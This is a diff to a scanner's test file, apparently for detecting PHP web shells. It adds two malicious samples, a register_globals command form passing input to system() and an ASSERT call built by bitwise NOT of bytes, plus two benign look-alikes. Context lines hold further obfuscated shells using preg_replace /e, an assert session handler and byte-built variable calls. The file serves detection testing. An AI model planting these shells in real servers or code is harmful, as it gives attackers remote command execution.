@@ -33,6 +33,8 @@ const MALICIOUS: [string, string, string][] = [
   ['yaml_parse with a tag callback of preg_replace, the tag from the request', '/var/www/html/o.php', `<?php\n$t = urlencode($_REQUEST['t']);\n$doc = "x: !{$t} \\"|.+|e\\"";\nyaml_parse($doc, 0, $n, array("!{$_REQUEST['t']}" => 'preg_replace'));\n`],
   ['a session save handler whose read handler is assert, the session id from the request', '/var/www/html/p.php', `<?php\n$h = chr(97) . chr(115) . chr(115) . chr(101) . chr(114) . chr(116);\nfunction o($p, $n) { return true; } function c() { return true; } function w($i, $d) { return true; } function d($i) { return true; } function g($l) { return true; }\nsession_id($_REQUEST['sid']);\nsession_set_save_handler('o', 'c', $h, 'w', 'd', 'g');\n@session_start();\n`],
   ['a call of a variable named by underscores, its name made by ~ of bytes picked out of strings', '/var/www/html/q.php', `<?php\n$__ = 2; $_ = 1;\n$____ = '';\n$___ = "\\x9e\\x8c"; $____ .= ~($___{$__ - 2}); $____ .= ~($___{$_});\n$_____ = '_'; $___ = "\\xaf\\xb0"; $_____ .= ~($___{0});\n$_ = $$_____;\n$____($_[_]);\n`],
+  ['a register_globals command form whose command has a default only when the field is empty', '/var/www/html/s.php', `<?php\nif ($cmd == "") { $cmd = 'dir /x'; }\necho '<pre>'; system($cmd); echo '</pre>';\n?>\n<form method="post"><input type="text" name="cmd" value=""><input type="submit"></form>\n`],
+  ['a function name made by ~ of high bytes, called with request input', '/var/www/html/t.php', Buffer.from([...Buffer.from('<?php $x=~'), 0xbe, 0xac, 0xac, 0xba, 0xad, 0xab, ...Buffer.from(";$x($_POST['k']); ?>")]).toString('latin1')],
   ['a directory browser finding drives by letter and listing the folder the request names', '/var/www/html/r.php', `<?php\nfunction drives() { foreach (range('c', 'z') as $l) if (is_dir($l . ':')) echo "<a href='?d=$l:'>$l:</a> "; }\ndrives();\n$d = isset($_GET['d']) ? $_GET['d'] : getcwd();\n$h = opendir($d);\nwhile (($f = readdir($h)) !== false) echo htmlspecialchars($f), '<br>';\n`],
 ];
 
@@ -48,6 +50,8 @@ const LOOKALIKES: [string, string, string][] = [
   ['a session save handler object of the application', '/var/www/html/sess.php', `<?php\nclass DbSession implements SessionHandlerInterface { public function open($p, $n): bool { return true; } public function close(): bool { return true; } public function read($id): string|false { return ''; } public function write($id, $d): bool { return true; } public function destroy($id): bool { return true; } public function gc($l): int|false { return 0; } }\nsession_set_save_handler(new DbSession(), true);\nsession_id($_COOKIE['sid'] ?? session_create_id());\nsession_start();\n`],
   ['a translation helper named by underscores', '/var/www/html/i18n.php', `<?php\nfunction __($s) { return $GLOBALS['_L'][$s] ?? $s; }\n$__ = '__';\necho $__('Hello');\n$_ = $_GET;\necho htmlspecialchars(__($_['msg'] ?? 'Welcome'));\n`],
   ['a disk report by drive letter, with no folder listed', '/var/www/html/disks.php', `<?php\n$unit = $_GET['unit'] === 'mb' ? 1048576 : 1073741824;\nforeach (range('c', 'z') as $l) if (is_dir($l . ':')) printf('%s: %.1f free<br>', $l, disk_free_space($l . ':') / $unit);\n`],
+  ['a command form whose command is set from a fixed list in a loop', '/var/www/html/jobs.php', `<?php\nforeach (array('uptime', 'df -h') as $cmd) { echo '<pre>'; system($cmd); echo '</pre>'; }\n?>\n<form method="post"><select name="cmd"><option>uptime</option></select></form>\n`],
+  ['a bit mask made by ~ beside a request parameter', '/var/www/html/mask.php', `<?php\n$m = ~0x0f;\n$f = 'intval';\necho $f($_GET['n']) & $m;\n`],
   ['a string with an escaped dollar sign and a str_replace, printed', '/var/www/html/price.php', `<?php\n$t = "Price: \\$AMOUNT";\n$t = str_replace('AMOUNT', number_format((float) $_GET['p'], 2), $t);\necho htmlspecialchars($t);\n`],
 ];
 
@@ -58,7 +62,7 @@ describe('scan: the techniques of held-out sets H8 to H11 (session 35)', () => {
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 17));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 19));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -66,5 +70,5 @@ describe('scan: the techniques of held-out sets H8 to H11 (session 35)', () => {
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 12));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 14));
 });
